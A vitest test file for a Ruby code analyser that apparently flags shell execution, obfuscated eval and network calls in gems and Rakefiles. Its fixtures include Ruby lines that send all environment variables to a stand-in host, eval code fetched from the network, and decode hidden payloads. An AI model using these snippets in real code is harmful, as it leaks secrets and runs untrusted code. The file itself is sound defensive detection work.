import fc from "fast-check"
import { beforeAll, describe, expect, it } from "vitest"
import { readPackaged } from "../../io/packaged.ts"
import type { Analyser } from "../language.ts"
import { type Shown, shownBy } from "../shown-fixture.ts"
import { ruby } from "./index.ts"

let analyser: Analyser
beforeAll(async () => {
  analyser = await ruby.load(readPackaged)
})
const show = (text: string): Shown => shownBy(analyser, text, { path: "gem/Rakefile", files: [] })
const acts = (text: string): readonly string[] => show(text).acts

describe("ruby", () => {
  it.each([
    ["ext/x/extconf.rb", ""],
    ["a.gemspec", ""],
    ["Rakefile", ""],
    ["bin/tool", "#!/usr/bin/env ruby"],
  ])("claims %s", (path, firstLine) => expect(ruby.claims(path, firstLine)).toBe(true))

  it("does not claim what is another language's", () => expect(ruby.claims("bin/tool", "#!/bin/sh")).toBe(false))

  it.each([
    ["system 'touch ' + 'MARKER'", ['1 runs text shell "touch MARKER"']],
    ["system('cp', 'a', 'b')", ['1 runs program "cp" with "a", "b"']],
    ["x = 'id'\n`#{x} -u`", ['2 runs text shell "id -u"']],
    ["%x(id)", ['1 runs text shell "id"']],
    ["IO.popen(['tar', 'x'])", ['1 runs program "tar" with "x"']],
    ["open('|id')", ['1 runs text shell "id"']],
    ["send('sys' 'tem', 'id')", ['1 runs text shell "id"']],
    ["Kernel.public_send(:eval, '1')", ['1 runs text ruby "1"']],
    ["method(:system).call('id')", ['1 runs text shell "id"']],
    ["Object.new.instance_eval('1')", ['1 runs text ruby "1"']],
    ["require_relative '../lib/x'", ['1 runs module "lib/x.rb"']],
    ["buf = +''\nbuf << 'i' << 'd'\nsystem buf", ['3 runs text shell "id"']],
    ["Gem::Specification.new { |s| s.extensions = ['ext/extconf.rb'] }", ['1 runs module "ext/extconf.rb"']],
    ["def f(a)\n  system(a)\nend\nf('id')", ['2 runs text shell "id"']],
    ["class A\n  def initialize(c)\n    @c = c\n  end\n  def run\n    system(@c)\n  end\nend\nA.new('id').run", ['6 runs text shell "id"']],
    ["Dir['*.x'].each { |f| File.delete(f) }", ['1 deletes names<"*.x">']],
    ["File.write('x', 'y')", ['1 writes "x" "y"']],
    ["File.open('x', 'w') { |f| f.puts <<~E }\n  y\nE\n", ['1 writes "x" ""', '1 writes "x" "  y\\n"']],
  ])("acts: %s", (text, expected) => expect(acts(text)).toEqual(expected))

  it.each([
    ["eval(Base64.decode64('bmls'))", '1 runs text ruby decode:Base64.decode64("bmls")'],
    ["eval('bmls'.unpack1('m'))", '1 runs text ruby decode:unpack1("bmls")'],
    ["eval(['6e696c'].pack('H*'))", '1 runs text ruby decode:pack("6e696c")'],
    ["eval([110, 105, 108, 10].map(&:chr).join)", '1 runs text ruby decode:join("nil\\n")'],
    ["eval([110, 105, 108, 10].pack('c*'))", '1 runs text ruby decode:pack("nil\\n")'],
    ["eval('lin'.reverse)", '1 runs text ruby slice:reverse("lin")'],
    ["eval('avy'.tr('a-zA-Z', 'n-za-mN-ZA-M'))", '1 runs text ruby translate:tr("avy")'],
    ["eval(format('n%sl', 'i'))", '1 runs text ruby "nil"'],
    ['eval("\\x6ei\\154")', '1 runs text ruby "nil"'],
  ])("constants that are run: %s", (text, expected) => expect(acts(text)).toEqual([expected]))

  it("calls a method by its name alone, wherever it is defined, and no lambda", () => {
    const found = acts(
      "module A\n  def a\n    eval(b)\n  end\n  def b\n    File.read('x')\n  end\nend\nc = -> { File.read('y') }\neval(c)\ndef d\n  d\nend\nd",
    )
    expect(found).toEqual(['3 runs text ruby file<"x">', '6 reads "x"', '9 reads "y"'])
  })

  it("evaluates what is given to the object itself", () => {
    expect(acts("instance_eval('1')\nmodule_eval('2')")).toEqual(['1 runs text ruby "1"', '2 runs text ruby "2"'])
  })

  it("looks up a name of a record, or all that it has", () => {
    const of = "{ 'a' => '1', 'b' => '2' }"
    expect(acts(`eval(${of}.fetch('b', '3'))\neval(${of}.fetch(x, '3'))\neval(${of}.fetch('c', '3'))`)).toEqual([
      '1 runs text ruby "2"',
      '2 runs text ruby ("1" | "2" | "3")',
      '3 runs text ruby "3"',
    ])
  })

  it("says what comes before the methods of a class that secrets go through, and of no other", () => {
    expect(acts("Net::HTTP.prepend(Timed)\nTable.prepend(Timed)\n[1].prepend(2)")).toEqual(["1 replaces Net.HTTP.*"])
  })

  it("looks into what was hidden", () => {
    const hidden = Buffer.from("File.delete('MARKER')").toString("base64")
    expect(acts(`eval(Base64.decode64('${hidden}'))`)).toContain('1 deletes "MARKER"')
  })

  it("follows content of files and of the network to where it runs", () => {
    expect(acts("data = File.binread(File.join(__dir__, 'spec', 'a.bin'))\neval(Zlib::Inflate.inflate(data[8..]))")).toEqual([
      '1 reads "gem/spec/a.bin"',
      '2 runs text ruby decompress:Zlib.Inflate.inflate(slice:[](file<"gem/spec/a.bin">))',
    ])
    expect(acts("eval(Net::HTTP.get(URI('https://x.example.org/a')))")).toEqual([
      '1 connects "https://x.example.org/a"',
      '1 runs text ruby fetched<"https://x.example.org/a">',
    ])
  })

  it("says which lines are no Ruby, and goes on", () => {
    const { acts: found, blind } = show("x = 1\n)) ]]\nsystem('id')\n")
    expect(blind.some((line) => line.startsWith("2 "))).toBe(true)
    expect(found).toContain('3 runs text shell "id"')
  })

  it("never throws, and stays in the text", () => {
    const word = fc.constantFrom(
      "system(",
      "'a'",
      "\n",
      "def f(a)",
      "end",
      "class A",
      "do |x|",
      "{",
      "}",
      "(",
      ")",
      "[",
      "]",
      "<<~E",
      "E",
      "#{",
      '"',
      "`",
      "eval",
      "=",
      "+",
      "<<",
      "if",
      "unless",
      ":a",
      "%w[",
      "..",
      "\u00e9",
      "\0",
    )
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ unit: "binary-ascii" }),
          fc.array(word).map((words) => words.join(" ")),
        ),
        (text) => {
          const lines = text.split("\n").length
          for (const {
            lines: [first, last],
          } of show(text).places)
            expect(first >= 1 && first <= last && last <= lines).toBe(true)
        },
      ),
      { numRuns: 300 },
    )
    for (const text of [
      "(".repeat(30_000),
      `${"f(".repeat(5000)}1${")".repeat(5000)}`,
      "if a\n".repeat(5000),
      `x = ${"'a' + ".repeat(20_000)}'b'`,
    ])
      expect(() => show(text)).not.toThrow()
  })

  it("sees the same whatever comments stand between", () => {
    const program = ["x = 'id'", "def f(a)", "  system(a)", "end", "f(x)"]
    fc.assert(
      fc.property(fc.array(fc.stringMatching(/^[ -~]*$/), { minLength: 5, maxLength: 5 }), (comments) => {
        expect(acts(program.map((line, index) => `${line} # ${comments[index]}`).join("\n"))).toEqual(acts(program.join("\n")))
      }),
    )
  })

  const what = 'ENV.map { |k, v| "#{k}=#{v}" }.join'
  it.each([
    `Net::HTTP.post(URI("https://h.example.org/"), ${what})`,
    `u = URI("https://h.example.org/")\nh = Net::HTTP.new(u.host, 443); r = Net::HTTP::Post.new(u); r.body = ${what}; h.request(r)`,
    `Net::HTTP.start("h.example.org", 80) { |h| h.post("/", ${what}) }`,
    `TCPSocket.new("h.example.org", 80).puts(${what})`,
    `HTTParty.put("https://h.example.org/", body: { a: ENV.to_h })`,
  ])("knows what it sends: %s", (text) =>
    expect(acts(text).filter((act) => act.includes(" sends "))).toEqual([
      expect.stringMatching(/connects "(?:https:\/\/)?h\.example\.org\/?" sends .*\$\*/),
    ]),
  )
})
